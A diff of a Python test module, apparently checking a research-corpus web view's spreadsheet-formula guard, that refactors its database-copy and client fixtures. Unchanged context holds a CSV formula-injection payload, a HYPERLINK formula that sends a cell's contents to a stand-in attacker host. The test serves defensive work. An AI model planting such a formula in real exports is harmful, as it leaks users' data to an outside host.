@@ -19,9 +19,10 @@ from corpus.article import Author  # noqa: E402
 from corpus.exports import spreadsheet_text  # noqa: E402
 from corpus.store import Store  # noqa: E402
 from oihwatch.web.downloads_plugin import FormulaGuard  # noqa: E402
-from oihwatch.web.server import make_datasette, snapshot_path  # noqa: E402
+from oihwatch.web.server import snapshot_path  # noqa: E402
 from oihwatch.web.snapshot import build_snapshot  # noqa: E402
-from test_serve import TOPICS, VIEW, served  # noqa: E402
+from research_corpus import copy_store  # noqa: E402
+from test_serve import TOPICS, VIEW, view_client  # noqa: E402
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Opioid-induced hyperalgesia: click")'
 # Papers whose cells a spreadsheet would run, by PMID: one of the newest, one of the oldest (on the last
@@ -38,10 +39,7 @@ HOSTILE = {
 def snapshot(research_store_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The research corpus with the ``HOSTILE`` papers (copies of real ones, their cells replaced), as the view serves it."""
     path = tmp_path_factory.mktemp("csv") / "corpus.db"
-    source, copy = sqlite3.connect(research_store_path), sqlite3.connect(path)
-    source.backup(copy)
-    source.close()
-    copy.close()
+    copy_store(research_store_path, path)
     with Store(path) as store:
         model = next(a for a in store.iter_articles(with_xml=False) if a.abstract and not a.retracted and not a.links)
         store.upsert_articles(dataclasses.replace(model, pmid=pmid, **cells) for pmid, cells in HOSTILE.items())
@@ -52,7 +50,7 @@ def snapshot(research_store_path: Path, tmp_path_factory: pytest.TempPathFactory
 
 @pytest.fixture(scope="module")
 def client(snapshot: Path) -> Iterator[httpx.Client]:
-    with served(make_datasette(snapshot, TOPICS)) as url, httpx.Client(base_url=url, timeout=60) as c:
+    with view_client(snapshot) as c:
         yield c
 
 
